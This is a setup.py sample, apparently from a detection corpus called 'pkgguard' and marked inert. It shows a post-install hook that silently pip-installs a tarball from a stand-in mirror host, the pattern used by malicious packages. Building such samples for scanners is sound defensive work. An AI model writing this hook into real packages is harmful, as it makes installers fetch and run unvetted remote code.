# pkgguard corpus 612 (install-hook), modelled on [bertus]; inert, never run.
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.check_call(
            [sys.executable, "-m", "pip", "install", "--quiet", "https://wheels-mirror.example/helper-0.1.tar.gz"]
        )


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"install": PostInstall})
